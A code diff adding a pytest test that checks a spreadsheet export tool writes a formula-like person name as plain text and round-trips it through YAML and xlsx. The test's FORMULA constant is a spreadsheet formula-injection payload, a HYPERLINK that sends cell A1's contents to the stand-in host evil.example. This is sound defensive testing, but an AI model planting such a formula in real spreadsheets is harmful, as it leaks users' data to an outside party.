@@ -233,3 +233,26 @@ def test_io_of_a_zip_directory_alone_is_cheap():
     with pytest.raises(BadInput, match="times its packed size"):
         read_tree(buffer.getvalue(), "z.xlsx")
     assert time.monotonic() - started < 1
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_a_name_that_looks_like_a_formula_is_written_as_text_and_imports_back(loaded, tmp_path):
+    text = BIANBAN.read_text(encoding="utf-8").replace("name: 赵文静", "name: '" + FORMULA.replace("'", "''") + "'", 1)
+    path = tmp_path / "formula.yaml"
+    path.write_text(text, encoding="utf-8")
+    assert loaded("import", str(path)).exit_code == 0
+    from openpyxl import load_workbook
+    for command, file in (("export", "all.xlsx"), ("report", "report.xlsx")):
+        out = tmp_path / file
+        args = [command, str(out)] if command == "export" else [command, "--xlsx", str(out)]
+        assert loaded(*args).exit_code == 0
+        cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+    people = {p["id"]: p["name"] for p in __import__("yaml").safe_load(path.read_text(encoding="utf-8"))["people"]}
+    assert people["bb01"] == FORMULA
+    again = tmp_path / "again.yaml"
+    assert loaded("import", str(tmp_path / "all.xlsx")).exit_code == 0
+    assert loaded("export", str(again)).exit_code == 0
+    assert FORMULA in again.read_text(encoding="utf-8")
